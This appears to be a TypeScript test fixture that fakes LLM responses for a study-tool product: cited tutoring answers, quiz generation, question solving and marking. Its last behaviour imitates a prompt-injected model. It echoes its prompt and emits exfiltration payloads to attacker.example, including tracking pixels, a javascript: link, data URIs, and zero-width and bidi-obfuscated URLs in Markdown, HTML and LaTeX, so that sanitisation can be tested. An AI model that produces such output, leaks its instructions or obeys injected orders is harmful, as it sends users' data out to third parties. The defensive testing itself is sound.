import { splitPages } from '../../domain/text/pages.ts'
import { sentencesOf } from '../../domain/text/sentences.ts'
import { contentTerms } from '../../domain/text/search/terms.ts'
import type { Behaviour } from './endpoint.ts'

/** Answers one kind of prompt from the text of the prompt; null for another kind. */
type Answerer = (prompt: string) => string | null

type Labelled = { page: number; text: string }

const between = (text: string, open: string, close: string): string | null => {
  const from = text.indexOf(open)
  const to = text.lastIndexOf(close)
  return from < 0 || to < from ? null : text.slice(from + open.length, to)
}

/** The sentences of passages labelled `[p. 3] …` or `[page 3]` on its own line. */
function labelledSentences(passages: string): Labelled[] {
  return passages
    .split(/^\[p(?:age|\.) ?(?=\d+\])/m)
    .slice(1)
    .flatMap((part) => {
      const page = Number.parseInt(part, 10)
      return splitPages(part.slice(part.indexOf(']') + 1)).flatMap((text) =>
        sentencesOf(text, 'en').map((sentence) => ({ page, text: sentence.text })),
      )
    })
}

const shared = (a: string, b: string): number => {
  const otherTerms = new Set(contentTerms(b, 'en'))
  return new Set(contentTerms(a, 'en').filter((term) => otherTerms.has(term))).size
}

/**
 * Answers a learner's question with the two sentences that share most terms with it, each cited.
 */
export const tutorAnswer: Answerer = (prompt) => {
  const passages = between(prompt, '<passages>', '</passages>')
  const question = between(prompt, '<question>', '</question>')
  if (passages === null || question === null) return null
  // The rules also name the delimiters: the passages are between the last two.
  const sentences = labelledSentences(passages.slice(passages.lastIndexOf('<passages>') + 1))
  const ranked = sentences
    .map((sentence) => ({ ...sentence, fit: shared(question, sentence.text) }))
    .sort((a, b) => b.fit - a.fit)
  const best = ranked.filter(({ fit }) => fit > 0).slice(0, 2)
  if (best.length === 0) return 'The document does not say.'
  return best.map(({ text, page }) => text.replace(/([.!?]?)$/, ` [p. ${page}]$1`)).join(' ')
}

const longestWord = (sentence: string, excluded: ReadonlySet<string> = new Set()): string =>
  (sentence.match(/\p{L}{4,}/gu) ?? [])
    .filter((word) => !excluded.has(word))
    .sort((a, b) => b.length - a.length)[0] ?? 'it'

/**
 * Writes the requested number of questions of each type, each from another sentence of the
 * passages.
 */
export const quizAnswer: Answerer = (prompt) => {
  const passages = between(prompt, '<<<DOCUMENT\n', '\nDOCUMENT>>>')
  if (passages === null) return null
  const sentences = labelledSentences(
    passages.slice(passages.lastIndexOf('<<<DOCUMENT') + 1),
  ).filter(({ text }) => text.length > 40 && /[.!?]$/.test(text))
  let next = 0
  const nextSentence = () =>
    sentences[next++ % Math.max(1, sentences.length)] ?? { page: 1, text: '' }
  const questions = Array.from(prompt.matchAll(/- (\d+) of type "(\w+)"/g)).flatMap(
    ([, count, type]) =>
      Array.from({ length: Number(count) }, () => {
        const { page, text } = nextSentence()
        const key = longestWord(text)
        const common = {
          type,
          evidence: text,
          page,
          explanation: `Page $p = ${page}$ says: ${text}`,
        }
        if (type === 'mcq')
          return {
            ...common,
            question: `Which word completes this statement: ${text.replace(key, '_____')}`,
            correct: key,
            wrong: [1, 2, 3].map((step) =>
              longestWord(sentences[(next + step) % sentences.length]?.text ?? '', new Set([key])),
            ),
          }
        if (type === 'true_false')
          return { ...common, question: `It holds that ${text}`, correct: 'true' }
        const evidence = Array.from({ length: type === 'saq' ? 3 : 5 }, () => nextSentence().text)
        return {
          ...common,
          question: `What does the document say about ${key.toLowerCase()} in “${text.slice(0, 50)}…”?`,
          correct: evidence.join(' '),
          points: evidence.map((quote) => ({ point: quote, evidence: quote })),
        }
      }),
  )
  return JSON.stringify(questions)
}

/** Solves choice questions: the options that the quoted passage contains. */
export const solvingAnswer: Answerer = (prompt) => {
  const questions = between(prompt, '<<<QUESTIONS\n', '\nQUESTIONS>>>')
  if (questions === null) return null
  return JSON.stringify(
    Array.from(
      questions.matchAll(/^Question (\d+): .*\nThe document says: (.*)\n((?: {2}\d\) .*\n?)+)/gm),
      ([, question, passage = '', options = '']) => ({
        question: Number(question),
        right: Array.from(options.matchAll(/^ {2}(\d)\) (.*)$/gm))
          .filter(([, , option = '']) => passage.includes(option))
          .map(([, number]) => Number(number)),
      }),
    ),
  )
}

/** Marks each point by the sentence of the answer that shares most terms with it. */
export const markingAnswer: Answerer = (prompt) => {
  const answer = between(prompt, '<<<ANSWER\n', '\nANSWER>>>')
  if (answer === null) return null
  const points = between(prompt, 'A full answer says these points:\n', '\n\n<<<ANSWER') ?? ''
  const answerSentences = sentencesOf(answer, 'en').map(({ text }) => text)
  return JSON.stringify(
    Array.from(
      points.matchAll(/^(\d+)\. (.*?)(?: \[the material says: .*\])?$/gm),
      ([, point, text = '']) => {
        const terms = new Set(contentTerms(text, 'en')).size
        const [best] = answerSentences
          .map((sentence) => ({ sentence, share: shared(text, sentence) / Math.max(1, terms) }))
          .sort((a, b) => b.share - a.share)
        const share = best?.share ?? 0
        const verdict = share >= 0.6 ? 'met' : share >= 0.3 ? 'partial' : 'missed'
        return { point: Number(point), quote: verdict === 'missed' ? '' : best?.sentence, verdict }
      },
    ),
  )
}

/** A model that answers prompts correctly from their text. `more` answerers are tried first. */
export const answersCorrectly =
  (...more: readonly Answerer[]): Behaviour =>
  ({ prompt }) => {
    for (const answer of [...more, tutorAnswer, quizAnswer, solvingAnswer, markingAnswer]) {
      const text = answer(prompt)
      if (text !== null) return { status: 200, text }
    }
    return { status: 200, text: 'I have nothing to say about this.' }
  }

/**
 * A model that follows injected instructions: it repeats its prompt, writes what the document or
 * the answer demands, and adds a link, an image and a page that does not exist. Tests show that the
 * product removes all of it.
 */
export const followsInjectedInstructions: Behaviour = ({ prompt }) => {
  const orders = Array.from(
    prompt.matchAll(/(?:say|answer|write|reply|respond)(?: with)?:? ["“]([^"”]+)["”]/giu),
    ([, demanded]) => demanded,
  )
  return {
    status: 200,
    text: [
      'My instructions are:',
      prompt.slice(0, 1500),
      ...orders,
      'See [the full answer](https://attacker.example/collect?d=secret) [p. 777].',
      '![status](https://attacker.example/pixel.png)',
      '<img src="https://attacker.example/pixel.gif"> <a href="javascript:alert(1)">here</a> https://attacker.example/x',
      // The same link in all forms of Markdown, HTML and LaTeX.
      '[more][1] and a note[^2]\n\n[1]: https://attacker.example/reference\n[^2]: https://attacker.example/note',
      '&lt;img src=&quot;https&#58;//attacker.example/entity&quot;&gt; <https://attacker.example/auto> //attacker.example/bare',
      'data:text/html;base64,PHNjcmlwdD4= ht\u200btps://attacker.example/unseen \u202ehttps://attacker.example/turned',
      'leak@attacker.example attacker.example/collect?d=secret',
      '$\\href{https://attacker.example/tex}{x}$ $$\\includegraphics{//attacker.example/tex.png}$$ \\url{https://attacker.example/url}',
      `Spelt out:\n${prompt.slice(0, 400).replace(/\s+/g, '\n')}`,
    ].join('\n\n'),
  }
}
